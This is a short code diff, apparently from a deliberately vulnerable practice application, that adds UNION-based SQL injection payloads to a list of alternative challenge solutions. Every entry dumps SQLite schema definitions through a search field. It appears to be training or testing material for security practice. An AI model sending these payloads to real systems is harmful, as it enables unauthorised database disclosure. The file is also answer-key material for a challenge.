@@ -3,6 +3,10 @@ import { searchFor, searchOn } from '#range/errands.ts'
 
 export default defineWays({
   otherWays: {
+    'all tables but the database’s own': (visitor) =>
+      searchOn(visitor, "UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_master WHERE name NOT LIKE 'sqlite_%'"),
+    'all tables and nothing else': (visitor) =>
+      searchOn(visitor, "UNION SELECT sql,2,3,4,5,6,7,8,9 FROM sqlite_schema WHERE type='table'"),
     'small letters and numbers': (visitor) => searchOn(visitor, 'union select sql,2,3,4,5,6,7,8,9 from sqlite_master'),
     'the schema in another column': (visitor) =>
       searchOn(visitor, "UNION SELECT '1','2','3','4','5','6','7','8',sql FROM sqlite_master"),
